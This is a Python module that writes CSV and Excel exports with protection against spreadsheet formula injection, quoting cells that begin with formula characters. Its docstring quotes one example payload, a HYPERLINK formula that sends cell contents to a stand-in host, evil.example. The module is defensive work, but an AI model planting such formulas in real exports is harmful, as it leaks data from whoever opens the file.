"""CSV and XLSX for spreadsheets, safe to open: no cell a contact typed runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``, ``+``, ``-`` or
``@`` (and some a tab or carriage return before one): a contact answering
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would otherwise put a live link, or worse,
in front of whoever opens the results. Such cells get a leading single quote (OWASP's advice),
which spreadsheets show as text. Plain numbers ("-3") are left alone: they cannot be formulas,
and survey answers should stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import UTC, datetime
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell that opens as text, never as a formula.

    >>> safe_cell('=HYPERLINK("http://x")'), safe_cell("@SUM(A1)"), safe_cell("-3"), safe_cell(7)
    ('\\'=HYPERLINK("http://x")', "'@SUM(A1)", '-3', 7)
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return f"'{value}"
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header and one line per row (other keys of a row are left out), every cell safe."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows({key: safe_cell(row.get(key)) for key in columns} for row in rows)
    return buffer.getvalue()


def xlsx_bytes(title: str, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> bytes:
    """An Excel workbook of one sheet: a bold header and one line per row.

    Text stays text: a cell that starts with ``=`` is stored as a string, never as a formula
    (openpyxl would otherwise write it as one), so there is nothing to quote. Characters XML
    cannot hold (control characters a contact may send) are dropped rather than failing the
    file; date-times become Excel dates (UTC).
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    # Excel refuses sheet names over 31 characters or with []:*?/\ in them.
    sheet = book.create_sheet(re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Sheet")
    bold = Font(bold=True)

    def cell(value: Any) -> Any:
        if isinstance(value, datetime):
            made = WriteOnlyCell(sheet, value=value.astimezone(UTC).replace(tzinfo=None))
            made.number_format = "yyyy-mm-dd hh:mm:ss"
            return made
        if value is None:
            return None
        if not isinstance(value, int | float) or isinstance(value, bool):
            value = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        made = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            made.data_type = "s"
        return made

    header = []
    for name in columns:
        made = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", name))
        made.font = bold
        made.data_type = "s"
        header.append(made)
    sheet.append(header)
    for row in rows:
        sheet.append([cell(row.get(key)) for key in columns])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
